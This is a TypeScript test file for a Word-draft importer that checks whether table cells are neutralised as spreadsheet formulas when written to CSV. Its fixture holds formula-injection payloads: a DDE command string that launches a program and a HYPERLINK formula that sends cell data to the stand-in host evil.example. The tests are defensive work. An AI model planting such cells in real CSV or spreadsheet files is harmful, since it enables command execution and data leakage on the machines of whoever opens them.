import { cp, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { Document, HeadingLevel, Packer, Paragraph, Table, TableCell, TableRow, TextRun } from 'docx';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { importDraft } from '../../src/import/import-draft.ts';
import { validateContent } from '../../src/pipeline.ts';
import { formatMessage } from '../../src/report/messages.ts';

// A draft made to do harm: its table's text is what Excel and WPS run as formulas when the CSV
// file the import writes is opened to correct a figure (DDE, a link that sends a cell away).
const row = (...texts: string[]) => new TableRow({ children: texts.map((text) => new TableCell({ children: [new Paragraph(text)] })) });
const draft = () =>
  Packer.toBuffer(
    new Document({
      sections: [
        {
          children: [
            new Paragraph({ heading: HeadingLevel.TITLE, children: [new TextRun('各县改造进展')] }),
            new Table({
              rows: [
                row('区县', '户数', '增幅'),
                row("=cmd|' /C calc'!A0", '1', '+2.5%'),
                row('=HYPERLINK("http://evil.example/?"&B2,"详情")', '2', '-1.5%'),
                row('@SUM(1+1)', '-', '0'),
                row('合计', '3', '-'),
              ],
            }),
          ],
        },
      ],
    }),
  );

let dir: string;
let imported: Awaited<ReturnType<typeof importDraft>>;
beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'jianbao-import-formulas-'));
  await cp('tests/fixtures/new/year-end', join(dir, 'content'), { recursive: true });
  await writeFile(join(dir, 'draft.docx'), await draft());
  imported = await importDraft(join(dir, 'draft.docx'), { contentDir: join(dir, 'content'), date: '2022-01-10' });
});
afterAll(() => rm(dir, { recursive: true, force: true }));

describe('a Word table cell a spreadsheet would run as a formula', () => {
  it("is written to the CSV file with a ' before it, which keeps it text there; signed figures and dashes are not", async () => {
    expect(await readFile(join(dirname(imported.created.path), 'table-1.csv'), 'utf8')).toBe(
      ['区县,户数,增幅', "'=cmd|' /C calc'!A0,1,+2.5%", `"'=HYPERLINK(""http://evil.example/?""&B2,""详情"")",2,-1.5%`, "'@SUM(1+1),-,0", '合计,3,-', ''].join(
        '\n',
      ),
    );
  });

  it('is a warning naming the table, the cell and where it is', () => {
    const formula = (text: string, row: number) =>
      `draft.docx: warning: Table 1 (table-1.csv) has a cell that Excel and WPS would run as a formula when table-1.csv is opened (“${text}”, row ${row}, column 1), so it was written with a ' before it, which keeps it text there: check it against the draft, which may have been made to do harm, and retype or delete it [import-formula]`;
    expect(imported.file.messages.map((message) => formatMessage(message, dir))).toEqual([
      formula("=cmd|' /C calc'!A0", 2),
      formula('=HYPERLINK("http://evil.example/?"&B2,"详…', 3),
      formula('@SUM(1+1)', 4),
    ]);
  });

  it('still makes a table that checks', async () => {
    const { errors } = await validateContent(join(dir, 'content'), { workers: 0 });
    expect(errors).toEqual([]);
  });
});
